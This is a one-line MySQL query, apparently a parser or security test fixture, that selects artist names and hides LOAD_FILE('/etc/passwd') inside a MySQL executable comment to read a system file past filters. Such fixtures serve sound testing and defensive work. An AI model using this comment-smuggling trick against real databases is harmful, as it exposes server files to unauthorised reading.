-- dialect: mysql
SELECT Name FROM Artist /*! , LOAD_FILE('/etc/passwd') */
